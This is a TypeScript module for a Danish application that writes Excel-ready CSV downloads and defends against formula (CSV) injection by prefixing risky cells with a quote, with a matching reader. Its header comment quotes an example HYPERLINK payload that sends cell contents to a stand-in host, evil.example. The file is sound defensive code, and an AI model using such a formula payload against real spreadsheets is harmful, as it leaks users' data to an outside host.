/**
 * The one CSV writer for every download (registry lists, open agreements, the audit log), and
 * the matching rule the importers read cells back with.
 *
 * Files are written as Danish Excel opens them: `;` separated, UTF-8 with a byte order mark, CRLF.
 *
 * Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`, `+`,
 * `-` or `@` as a formula (and tab / CR / LF can hide such a start), so a person named
 * `=HYPERLINK("http://evil.example/?x="&A1;"Klik")` would become a live link in the case officer's
 * Excel. Such a cell is written with a single quote in front, as OWASP recommends.
 *
 * Reading back is exact: the writer quotes every cell matching /^'*[=+\-@\t\r\n]/ (a trigger after
 * any number of quotes — so a value that itself starts with `'=` gets a second quote), and the
 * importer removes one quote from every cell matching /^'+[=+\-@\t\r\n]/. Together the two are
 * inverse: `restoreCell(neutraliseCell(s)) === s` for every string (property-tested). A cell the
 * writer did not touch never matches the reader's pattern, so nothing else is changed.
 * Numbers (`-5`) are written as they are: a number is not a formula.
 */
import { stringify } from 'csv-stringify/sync';

export type CsvValue = string | number | boolean | null;

const NEEDS_QUOTE = /^'*[=+\-@\t\r\n]/;
const ADDED_QUOTE = /^'+[=+\-@\t\r\n]/;

/** A text cell as it is written: a leading quote when a spreadsheet would run it as a formula. */
export function neutraliseCell(text: string): string {
  return NEEDS_QUOTE.test(text) ? `'${text}` : text;
}

/** A cell read back from a file this product wrote (or a user edited): the quote the writer added removed. */
export function restoreCell(text: string): string {
  return ADDED_QUOTE.test(text) ? text.slice(1) : text;
}

function cellText(value: CsvValue): string {
  if (value === null) return '';
  if (typeof value === 'boolean') return value ? 'ja' : 'nej';
  if (typeof value === 'number') return String(value);
  return neutraliseCell(value);
}

/** Header and rows → the file's text (BOM, `;`, CRLF, quoting per RFC 4180), every cell neutralised. */
export function excelCsv(headers: readonly string[], rows: readonly (readonly CsvValue[])[]): string {
  const cells = [headers.map(neutraliseCell), ...rows.map((r) => r.map(cellText))];
  // csv-stringify quotes a lone CR or LF only when asked to; Excel would break the row there.
  return `\uFEFF${stringify(cells, { delimiter: ';', record_delimiter: '\r\n', quoted_match: /[\r\n]/ })}`;
}
